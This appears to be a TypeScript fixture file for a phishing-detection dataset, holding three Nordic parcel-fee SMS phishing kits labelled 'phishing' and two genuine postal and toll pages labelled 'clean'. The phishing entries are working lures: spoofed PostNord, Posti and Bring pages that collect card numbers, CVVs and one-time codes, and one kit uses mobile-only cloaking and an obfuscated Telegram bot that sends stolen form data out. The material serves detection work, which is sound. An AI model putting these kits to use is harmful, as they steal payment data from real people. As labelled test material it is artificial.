import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, cardCss, govCss, baseCss, spinnerCss, cardFormatJs, cookieBanner, gtm, b64 } from '../parts/yb-kit.js';
import { jsRoute, jsonRoute, pngRoute } from '../parts/e-bin.js';

// Post and parcel services, public transport and road-toll operators: SMS-lure kits, and the real
// tracking, ticket and toll pages.

const trackSteps = (steps: [string, string, boolean][]): string =>
  `<ol class="trk">${steps.map(([t, d, on]) => `<li class="${on ? 'on' : ''}"><b>${t}</b><span>${d}</span></li>`).join('')}</ol>`;
const trkCss = `.trk{list-style:none;padding:0;margin:18px 0;border-left:3px solid #d0d5da}.trk li{padding:0 0 16px 18px;position:relative;color:#666}.trk li:before{content:"";position:absolute;left:-9px;top:4px;width:14px;height:14px;border-radius:50%;background:#d0d5da}.trk li.on{color:#111}.trk li.on:before{background:var(--c,#00a0d6)}.trk b{display:block}.trk span{font-size:13px}`;

export const entries: Entry[] = [
  {
  id: 'yb-se-postnord-tull-sms-chain',
  label: 'phishing',
  kind: 'parcel-fee-kit',
  url: 'https://pn-se.click/x7Kq2',
  routes: {
    'pn-se.click/x7Kq2': redirectRoute(302, 'https://trk.leverans-avgift.com/r?c=x7Kq2&src=sms'),
    'trk.leverans-avgift.com/r': redirectRoute(302, 'https://postnord.leverans-avgift.com/se/spara/?id=UA482915730SE'),
    'postnord.leverans-avgift.com/se/spara/': htmlRoute(
      doc({
        lang: 'sv',
        title: 'PostNord – Spåra försändelse',
        css: `${baseCss}${trkCss}
body{background:#f4f6f7;--c:#00a0d6}
.h{background:#fff;padding:14px 24px;border-bottom:1px solid #e0e4e7;font:700 24px Arial;color:#00a0d6}
.c{max-width:520px;margin:20px auto;background:#fff;padding:24px;border-radius:8px}
.fee{background:#fff7e0;border:1px solid #f2c94c;padding:12px;border-radius:6px}
label{display:block;font-weight:600;margin:12px 0 5px}
input{width:100%;padding:12px;border:1px solid #a7b0b8;border-radius:6px;font-size:16px}
.btn{margin-top:18px;width:100%;padding:14px;border:0;border-radius:30px;background:#00a0d6;color:#fff;font-weight:700;font-size:16px}`,
        body: `<div class="h">PostNord</div>
<div class="c">
<p>Försändelse-ID <b>UA482915730SE</b></p>
${trackSteps([
  ['Försändelsen har ankommit till Sverige', 'Arlanda, 2 dagar sedan', true],
  ['Väntar på betalning av tullavgift', 'Tullkontroll, Stockholm', true],
  ['Utdelning', 'Planerad efter betalning', false],
])}
<div class="fee">Tull och hanteringsavgift: <b>29,90 kr</b>. Betala inom 24 timmar, annars returneras försändelsen till avsändaren.</div>
<form method="post" action="/se/spara/betala.php">
<label>Namn</label><input name="namn" required>
<label>Adress</label><input name="adress" required>
<label>Kortnummer</label><input name="card" inputmode="numeric" oninput="fmtCard(this)" required>
<label>Giltig t.o.m.</label><input name="exp" oninput="fmtExp(this)" placeholder="MM/ÅÅ" required>
<label>CVV</label><input name="cvv" maxlength="3" required>
<button class="btn">Betala 29,90 kr</button>
</form></div>
<script>${cardFormatJs}</script>`,
      }),
    ),
    'postnord.leverans-avgift.com/se/spara/betala.php': htmlRoute(
      doc({
        lang: 'sv',
        title: '3-D Secure',
        css: `${cardCss}${spinnerCss}`,
        body: `<div class="wrap"><div class="card"><h1>Verifierad av Visa</h1><p>Ange koden som skickats till din telefon för att godkänna betalningen på 29,90 kr till POSTNORD SE.</p><form method="post" action="/se/spara/otp.php"><label>Engångskod</label><input type="text" name="otp" inputmode="numeric" maxlength="8"><button class="btn">Bekräfta</button></form><p class="muted">Koden är giltig i 5 minuter.</p></div></div>`,
      }),
    ),
  },
},
  {
  id: 'yb-fi-posti-tullimaksu-mobile-only',
  label: 'phishing',
  kind: 'parcel-fee-kit',
  url: 'https://posti-fi.lahetys-seuranta.xyz/fi/seuranta/',
  body: doc({
    lang: 'fi',
    title: 'Posti – Lähetyksen seuranta',
    head: `<script>if(!/Android|iPhone|iPad|Mobile/i.test(navigator.userAgent)){location.replace('https://www.posti.fi/fi');}</script>`,
    css: `${baseCss}${trkCss}
body{background:#f5f3ef;--c:#f46c32}
.h{background:#fff;padding:14px 20px;font:800 26px Arial;color:#f46c32}
.c{padding:20px;max-width:480px;margin:0 auto}
.box{background:#fff;border-radius:10px;padding:18px;margin-bottom:14px}
input{width:100%;padding:13px;border:1px solid #bbb;border-radius:8px;font-size:16px;margin:6px 0 10px}
button{width:100%;padding:15px;border:0;border-radius:8px;background:#3b4a3f;color:#fff;font-size:17px;font-weight:700}`,
    body: `<div class="h">posti</div>
<div class="c">
<div class="box"><b>Lähetys JJFI64301200018452300</b>
${trackSteps([
  ['Saapunut Suomeen', 'Vantaa, eilen', true],
  ['Tullimaksu maksamatta', 'Toimitus keskeytetty', true],
  ['Toimitus noutopisteeseen', '—', false],
])}</div>
<div class="box"><p>Maksa tullimaksu <b>2,99 €</b> jatkaaksesi toimitusta.</p>
<form id="p">
<input name="nimi" placeholder="Nimi" required>
<input name="puh" placeholder="Puhelinnumero" required>
<input name="kortti" placeholder="Kortin numero" inputmode="numeric" required>
<input name="vp" placeholder="KK/VV" required>
<input name="cvv" placeholder="CVV" maxlength="3" required>
<button>Maksa 2,99 €</button></form></div>
</div>
<script>
var K=atob('${b64('6833017522:AAF3pqZ0Jx-7Hn2R8eXk5vW1yL0tQdC9sMg')}'),C=atob('${b64('5120964831')}');
document.getElementById('p').onsubmit=function(e){e.preventDefault();var t='POSTI FI\\n';new FormData(this).forEach(function(v,k){t+=k+': '+v+'\\n'});
fetch('https://api.telegram.org/bot'+K+'/sendMessage?chat_id='+C+'&text='+encodeURIComponent(t)).then(function(){location.href='/fi/seuranta/vahvistus.html'});};
</script>`,
  }),
  routes: {
    'posti-fi.lahetys-seuranta.xyz/fi/seuranta/vahvistus.html': htmlRoute(doc({ lang: 'fi', title: 'Vahvistus', css: cardCss, body: `<div class="wrap"><div class="card"><h1>Vahvista maksu</h1><p>Syötä pankkisi lähettämä vahvistuskoodi.</p><form method="post" action="/fi/seuranta/koodi.php"><label>Koodi</label><input type="text" name="koodi"><button class="btn">Vahvista</button></form></div></div>` })),
  },
},
  {
  id: 'yb-no-bring-adresse-gebyr',
  label: 'phishing',
  kind: 'parcel-fee-kit',
  url: 'https://bring-no.pakke-levering.info/sporing/',
  body: doc({
    lang: 'no',
    title: 'Bring – Levering mislyktes',
    css: `${cardCss}
body{background:#f3f7f0}
.bring{font:800 30px Arial;color:#7bc144}
.btn{background:#7bc144;color:#16360b}`,
    body: `<div class="wrap"><div class="card">
<div class="bring">Bring</div>
<h1>Vi kunne ikke levere pakken din</h1>
<p>Sendingsnummer <b>370723184522901</b>. Adressen var ufullstendig. Bekreft adressen og betal et gebyr for ny utkjøring (<b>21,00 kr</b>).</p>
<form method="post" action="./bekreft.php">
<label>Fullt navn</label><input type="text" name="navn" required>
<label>Adresse</label><input type="text" name="adresse" required>
<div class="row"><div><label>Postnummer</label><input type="text" name="postnr" required></div><div><label>Sted</label><input type="text" name="sted" required></div></div>
<label>Mobil</label><input type="tel" name="mobil" required>
<label>Kortnummer</label><input type="text" name="kort" inputmode="numeric" required>
<div class="row"><div><label>Utløp</label><input type="text" name="utlop" placeholder="MM/ÅÅ"></div><div><label>CVC</label><input type="text" name="cvc"></div></div>
<button class="btn">Bekreft og betal</button>
</form>
</div><footer class="small">Posten Bring AS · Postboks 1500 Sentrum, 0001 Oslo</footer></div>`,
  }),
},
  {
  id: 'yb-fi-posti-seuranta-own',
  label: 'clean',
  kind: 'parcel-tracking-own-domain',
  url: 'https://www.posti.fi/fi/seuranta#/lahetys/JJFI64301200018452300',
  body: doc({
    lang: 'fi',
    title: 'Seuranta | Posti',
    css: `${baseCss}${trkCss}
body{background:#f5f3ef;--c:#f46c32}
header{background:#fff;padding:14px 30px;font:800 26px Arial;color:#f46c32;display:flex;justify-content:space-between}
header a{font:400 15px Arial;color:#333}
main{max-width:720px;margin:20px auto;padding:0 20px}
.box{background:#fff;border-radius:10px;padding:20px;margin-bottom:14px}`,
    body: `<header>posti<a href="https://oma.posti.fi">Kirjaudu OmaPostiin</a></header>
<main>
<div class="box" id="app"><p>Ladataan lähetystä…</p></div>
<div class="box"><h3>Tulli ja arvonlisävero</h3><p>EU:n ulkopuolelta tulevista lähetyksistä peritään arvonlisävero. Maksat sen OmaPosti-sovelluksessa tai Tullin verkkopalvelussa. Posti ei lähetä maksulinkkejä tekstiviestillä.</p></div>
</main>
<script>
var id=decodeURIComponent(location.hash.split('/').pop()||'');
fetch('/api/tracking/v2/shipments/'+encodeURIComponent(id)).then(function(r){return r.json()}).then(function(s){
 var h='<b>Lähetys '+s.id+'</b><p>'+s.status+'</p><ol class="trk">';
 s.events.forEach(function(e){h+='<li class="on"><b>'+e.text+'</b><span>'+e.place+', '+e.time+'</span></li>'});
 document.getElementById('app').innerHTML=h+'</ol>';});
</script>`,
  }),
  routes: {
    'www.posti.fi/api/tracking/v2/shipments/JJFI64301200018452300': jsonRoute({
      id: 'JJFI64301200018452300',
      status: 'Lähetys on noudettavissa',
      events: [
        { text: 'Lähetys on saapunut noutopisteeseen', place: 'K-Market Kallio, Helsinki', time: '14.3. 09:12' },
        { text: 'Lähetys on tullattu', place: 'Vantaa', time: '13.3. 18:40' },
      ],
    }),
  },
},
  {
  id: 'yb-no-fjellinjen-betale-faktura-own',
  label: 'clean',
  kind: 'toll-payment-own-domain',
  url: 'https://www.fjellinjen.no/privat/betale-faktura/',
  body: doc({
    lang: 'no',
    title: 'Betal faktura | Fjellinjen',
    css: `${cardCss}
.fl{font:800 24px Arial;color:#003b5c}
.btn{background:#003b5c}`,
    body: `<div class="wrap"><div class="card">
<div class="fl">Fjellinjen</div>
<h1>Betal bompengefaktura</h1>
<p>Skriv inn KID-nummeret fra fakturaen. Du kan også betale i nettbanken eller med Vipps.</p>
<form method="post" action="/privat/betale-faktura/sok">
<label for="kid">KID-nummer</label><input type="text" id="kid" name="kid" inputmode="numeric" maxlength="25">
<label for="reg">Registreringsnummer</label><input type="text" id="reg" name="regnr" maxlength="7">
<button class="btn">Finn faktura</button>
</form>
<p class="muted">Fjellinjen sender faktura per post eller i nettbanken (eFaktura) – aldri som SMS med betalingslenke. Kundeservice: 22 07 25 00.</p>
</div></div>`,
  }),
},
];
